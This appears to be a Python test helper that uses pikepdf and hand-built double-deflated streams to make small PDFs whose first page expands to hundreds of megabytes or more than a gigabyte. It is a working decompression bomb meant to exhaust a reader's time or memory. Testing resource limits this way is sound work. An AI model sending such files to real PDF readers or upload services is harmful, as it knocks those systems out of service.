"""PDFs of some kilobytes that unfold to more than a reader has time or memory for."""

from __future__ import annotations

import zlib
from io import BytesIO

import pikepdf

_STEP = b"1 0 0 1 0 0 cm\n" * 70_000
LONG, LARGE = 600_000_000, 1_400_000_000
"""Bytes of a page that take a reader tens of seconds, and that are more than its process may have."""


def packed(size: int) -> bytes:
    """A page's content of so many bytes that draws nothing, packed twice.

    The same packed piece again and again (RFC 1950, RFC 1951): packing it all would take seconds.
    """
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    piece = packer.compress(_STEP) + packer.flush(zlib.Z_FULL_FLUSH)
    number = size // len(_STEP)
    total = zlib.adler32(b"")
    for _ in range(number):
        total = zlib.adler32(_STEP, total)
    once = b"\x78\x9c" + piece * number + b"\x03\x00" + total.to_bytes(4, "big")
    return zlib.compress(once, 9)


def unfolding(data: bytes, size: int) -> bytes:
    """A PDF with its seal, and a first page that unfolds to so many bytes."""
    out = BytesIO()
    with pikepdf.open(BytesIO(data)) as pdf:
        content = pikepdf.Stream(pdf, b"")
        twice = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
        content.write(packed(size), filter=twice)
        pdf.pages[0].obj.Contents = pdf.make_indirect(content)
        level = pikepdf.StreamDecodeLevel.none
        pdf.save(out, compress_streams=False, stream_decode_level=level)
    return out.getvalue()
